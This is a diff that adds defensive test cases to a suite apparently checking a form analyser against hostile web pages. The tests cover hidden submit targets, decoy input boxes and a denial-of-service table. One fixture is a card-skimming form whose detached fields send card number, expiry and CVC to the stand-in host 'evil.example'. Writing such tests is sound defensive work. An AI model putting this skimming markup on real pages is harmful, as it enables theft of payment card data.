@@ -73,6 +73,49 @@ describe('a hostile page', () => {
     expect(cut).toContain('nodes');
   });
 
+  it.each([
+    [
+      'fields that stand outside of it',
+      `<form id=f method=get></form><label>Card number<input form=f></label><label>Expiry<input form=f></label>
+       <label>CVC<input form=f></label><button form=f formaction="https://evil.example/c">Pay</button>`,
+      'https://evil.example/c',
+    ],
+    [
+      'one field alone',
+      '<form method=get><label>Credit card number<input name=card autocomplete=cc-number></label></form>',
+      'https://shop.example/checkout',
+    ],
+  ])('cannot hide where a form sends %s', (_, html, url) => {
+    expect(ask(laidOut(html)).groups.map(({ targets }) => targets[0]?.url)).toEqual([url]);
+  });
+
+  it('cannot take its name from a card number by boxes that nobody sees or that stand elsewhere', () => {
+    const boxes = (style: string): string => `<input maxlength=4 style="${style}">`.repeat(4);
+    for (const page of [
+      `<form>${boxes('display:none')}${CARD}</form>`,
+      `<form><p>Your pickup key</p>${boxes('')}${CARD}</form>`,
+    ]) {
+      const fields = ask(laidOut(page)).groups.flatMap((group) => group.fields);
+      expect(fields.find(({ evidence }) => evidence === 'Card number')?.kind).toBe('cc-number');
+    }
+  });
+
+  it('cannot keep us busy with a row of very many cells', () => {
+    const document = laidOut(`<table><tr>${'<td>x'.repeat(1_000)}<tr><td>${'<input>'.repeat(100)}</table>`);
+    let asked = 0;
+    const { HTMLTableCellElement } = document.defaultView as unknown as {
+      HTMLTableCellElement: { prototype: object };
+    };
+    Object.defineProperty(HTMLTableCellElement.prototype, 'colSpan', {
+      get: () => {
+        asked += 1;
+        return 1;
+      },
+    });
+    ask(document);
+    expect(asked).toBeLessThan(100 * 300);
+  });
+
   it('is read through marks that turn or hide its letters', () => {
     const { groups } = ask(
       laidOut(
